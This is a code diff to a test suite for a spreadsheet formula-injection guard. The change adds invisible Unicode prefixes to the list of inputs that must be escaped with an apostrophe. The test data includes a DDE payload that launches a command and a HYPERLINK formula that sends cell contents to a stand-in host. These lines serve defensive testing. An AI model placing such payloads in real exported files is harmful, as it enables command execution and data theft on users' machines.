@@ -92,7 +92,7 @@ export function guardTests(make: Make): void {
     ...['=1+1', '+1+1', '-1+1', '@SUM(A1)', '-x', '+', '-5-3', '-.', '-1e', '--5', '=-5'],
     ...['＝1+1', '＋1', '－1', '＠x', '﹦1', '﹢1', '﹣1', '﹫x'],
     ...['\t=1', '\r=1', '\n=1', '\r\n=1', '\tx', '\rx', '\nx', '\n-5', '\t5'],
-    ...[' =1', '\u3000=1', '\u00a0=1', '\ufeff=1', '\u200b=1', '\0=1', '  \n =1', '"=1', '""=1+1', ' "＝1'],
+    ...[' =1', '\u3000=1', '\u00a0=1', '\ufeff=1', '\u200b=1', '\u0890=1', '\u{e0020}=1', '\0=1', '  \n =1', '"=1', '""=1+1', ' "＝1'],
     ...["=cmd|' /C calc'!A0", '=HYPERLINK("http://x/"&A1)', '=1+2";=1+2'],
   ])('puts an apostrophe before %j', (text) => {
     for (const delimiter of DELIMITERS) expect(textCell(text, { delimiter })?.slice(0, 2)).toBe(`'${text[0]}`);
